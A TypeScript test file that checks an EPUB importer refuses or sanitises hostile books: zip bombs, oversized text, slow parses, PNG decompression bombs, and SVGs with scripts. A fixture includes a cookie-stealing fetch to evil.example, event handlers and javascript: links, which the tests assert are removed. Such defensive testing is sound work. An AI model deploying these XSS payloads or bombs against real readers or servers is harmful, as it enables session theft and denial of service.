import { describe, expect, it } from "vitest";
import { dialectsUnderTest } from "../../../test/test-db";
import { useEpubImport } from "./epub-import-harness";
import { blackPng, clobberingBook, fortyMegabyteBook, heavyBook } from "./hostile-epubs";
import { refusalOf, testEpub } from "./test-epubs";

/** Security issue 17, findings 4–6 and SVG scripts: EPUBs built to hurt the server, the reader or a browser. */
describe.each(dialectsUnderTest())("EPUB import of hostile books on %s", (dialect) => {
  const h = useEpubImport(dialect);
  const { testDb, service, counts, storedFiles, keyOf } = h;

  const chaptersOf = (bookId: string) =>
    testDb.db.selectFrom("chapters").select(["anchorId", "html"]).where("bookId", "=", bookId).execute();
  const read = async (url: string) => new TextDecoder().decode((await h.storage().read(keyOf(url))) ?? undefined);

  describe("finding 4: books that would hold the server", () => {
    it("refuses 40 chapters of 1 MB deflated to a few KB: the archive as a whole compresses like a bomb", async () => {
      const bytes = fortyMegabyteBook();
      expect(bytes.byteLength).toBeLessThan(200_000);
      const before = await counts();
      const error = await refusalOf(() => service().import(bytes));
      expect(error.message).toBe(
        "This EPUB is too large when unpacked, or compressed suspiciously well (a possible zip bomb).",
      );
      expect(error.reason).toBe("epub/too-large");
      // Judged on the whole archive: no single entry reaches the per-entry check's 1 MiB.
      const { size, compressedSize } = error.details as { size: number; compressedSize: number };
      expect(size).toBeGreaterThan(39_000_000);
      expect(compressedSize).toBeLessThan(bytes.byteLength);
      expect(await counts()).toEqual(before);
    });

    it("refuses a chapter, or a book, with more text than the limits", async () => {
      const before = await counts();
      const chapter = await refusalOf(() => service({ maxChapterTextBytes: 100_000 }).import(heavyBook(2, 150_000)));
      expect(chapter.message).toBe(
        "This EPUB has more text than Quire can import (one chapter, or the whole book, is too long).",
      );
      expect(chapter.details).toMatchObject({ path: "OEBPS/text/chapter-1.xhtml", maxChapterTextBytes: 100_000 });
      const book = await refusalOf(() => service({ maxBookTextBytes: 250_000 }).import(heavyBook(2, 150_000)));
      expect(book.reason).toBe("epub/text-too-long");
      expect(book.details).toMatchObject({ maxBookTextBytes: 250_000 });
      expect(await counts()).toEqual(before);
    });

    it("stops reading a book that takes longer than its time budget, and writes nothing", async () => {
      const before = await counts();
      const started = performance.now();
      // Reading these 1.2 MB takes a few hundred ms on a fast machine (300 ms was not always short) and seconds on a
      // slow one: 20 ms always is.
      const error = await refusalOf(() => service({ maxImportMs: 20 }).import(heavyBook(3, 400_000)));
      expect(performance.now() - started).toBeLessThan(3000);
      expect(error.message).toBe(
        "This EPUB took too long to read and was stopped; it may be damaged or built to overload Quire.",
      );
      expect(error.reason).toBe("epub/too-slow");
      expect(await counts()).toEqual(before);
    });
  });

  describe("finding 5: pictures over the pixel limit", () => {
    it("gives a book whose cover is a decompression bomb the cloth cover, and drops bomb pictures but keeps their words", async () => {
      const bomb = blackPng(20_000, 20_000);
      expect(bomb.byteLength).toBeLessThan(64 * 1024);
      const inlineBomb = Buffer.from(bomb).toString("base64");
      const inlineDot = Buffer.from(blackPng(4, 4)).toString("base64");
      const before = await h.storedFiles();
      const result = await service().import(
        testEpub({
          identifier: "urn:quire-test:bomb-cover",
          chapters: [
            {
              file: "chapter-1.xhtml",
              title: "Maps",
              body: `<h2>Maps</h2><p>Here is the coast:</p><img src="../images/coast.png" alt="A map of the whole coast"/><img src="../images/dot.png" alt="A dot"/><p style="background: url(../images/coast.png)">after</p><img src="data:image/png;base64,${inlineBomb}" alt="An inline bomb"/><img src="data:image/png;base64,${inlineDot}" alt="An inline dot"/><p style="background-image: url(data:image/png;base64,${inlineBomb})">styled</p>`,
            },
          ],
          manifestItems:
            '<item id="cover" href="images/cover.png" media-type="image/png" properties="cover-image"/><item id="coast" href="images/coast.png" media-type="image/png"/><item id="dot" href="images/dot.png" media-type="image/png"/>',
          files: {
            "OEBPS/images/cover.png": bomb,
            "OEBPS/images/coast.png": bomb,
            "OEBPS/images/dot.png": blackPng(16, 16),
          },
        }),
      );
      expect(result.imageUrl).toBeNull();
      const book = await testDb.db
        .selectFrom("books")
        .select("imageUrl")
        .where("id", "=", result.bookId)
        .executeTakeFirstOrThrow();
      expect(book.imageUrl).toBeNull();

      const [chapter] = await chaptersOf(result.bookId);
      expect(chapter?.html).toContain('<span class="quire-missing-image">A map of the whole coast</span>');
      expect(chapter?.html).not.toContain("coast.png");
      // Pictures written into the markup as data: URLs are counted too.
      expect(chapter?.html).toContain('<span class="quire-missing-image">An inline bomb</span>');
      expect(chapter?.html).toContain(`<img src="data:image/png;base64,${inlineDot}" alt="An inline dot" />`);
      expect(chapter?.html).not.toContain(inlineBomb.slice(0, 40));
      expect(chapter?.html).toMatch(
        /<img src="\/files\/books\/[^"]+\/content\/OEBPS\/images\/dot\.png" alt="A dot" \/>/,
      );
      const added = (await storedFiles()).filter((file) => !before.includes(file));
      expect(added.some((file) => file.endsWith("dot.png"))).toBe(true);
      expect(added.filter((file) => /cover|coast/.test(file))).toEqual([]);
    });
  });

  describe("SVG scripts and DOM clobbering", () => {
    it("stores the book's SVG files and inline SVG without scripts, handlers, foreignObject or javascript: links", async () => {
      const hostileSvg = `<?xml version="1.0" encoding="utf-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="alert(document.cookie)">
  <script>fetch("https://evil.example/?" + document.cookie)</script>
  <circle cx="5" cy="5" r="4" fill="teal" onmouseover="alert(1)"/>
  <a xlink:href="javascript:alert(2)"><text y="9">go</text></a>
  <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(3)"/></foreignObject>
  <image href="inner.svg" width="2" height="2"/>
</svg>`;
      const innerSvg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><script>alert(4)</script><rect width="1" height="1"/></svg>`;
      const result = await service().import(
        testEpub({
          identifier: "urn:quire-test:svg-scripts",
          chapters: [
            {
              file: "chapter-1.xhtml",
              title: "Drawings",
              body: '<h2>Drawings</h2><img src="../images/drawing.svg" alt="A drawing"/><p style="background-image: url(../images/drawing.svg)">x</p><svg viewBox="0 0 4 4"><script>alert(5)</script><rect width="4" height="4" onclick="alert(6)"/><a href="javascript:alert(7)"><text>t</text></a><foreignObject><p>html</p></foreignObject></svg>',
            },
          ],
          manifestItems:
            '<item id="drawing" href="images/drawing.svg" media-type="image/svg+xml"/><item id="inner" href="images/inner.svg" media-type="image/svg+xml"/>',
          files: { "OEBPS/images/drawing.svg": hostileSvg, "OEBPS/images/inner.svg": innerSvg },
        }),
      );
      const [chapter] = await chaptersOf(result.bookId);
      expect(chapter?.html).not.toMatch(/script|alert|onclick|foreignObject|javascript/i);
      expect(chapter?.html).toContain('<rect width="4" height="4"></rect>');

      const drawingUrl = /<img src="([^"]+\.svg)"/.exec(chapter?.html ?? "")?.[1] as string;
      const drawing = await read(drawingUrl);
      expect(drawing).toContain('<circle cx="5" cy="5" r="4" fill="teal"></circle>');
      expect(drawing).not.toMatch(/script|alert|onload|onmouseover|foreignObject|iframe|javascript|cookie/i);
      // A file the SVG uses is stored and sanitised as well.
      const innerUrl = /<image href="([^"]+inner\.svg)"/.exec(drawing)?.[1] as string;
      expect(innerUrl).toMatch(/^\/files\/books\//);
      const inner = await read(innerUrl);
      expect(inner).toContain('<rect width="1" height="1"></rect>');
      expect(inner).not.toMatch(/script|alert/);
    });

    it("stores chapters without name attributes or ids that shadow document properties", async () => {
      const result = await service().import(clobberingBook());
      const chapters = await chaptersOf(result.bookId);
      expect(chapters).toHaveLength(3);
      for (const { html } of chapters) {
        expect(html).not.toMatch(/\sname=|querySelector|getElementById|addEventListener|createElement|documentElement/);
        expect(html).not.toMatch(/id="body"|scrollingElement|defaultView/);
      }
      expect(chapters[1]?.html).toContain("<p>Ids too.</p><a>anchor</a>");
    });
  });
});
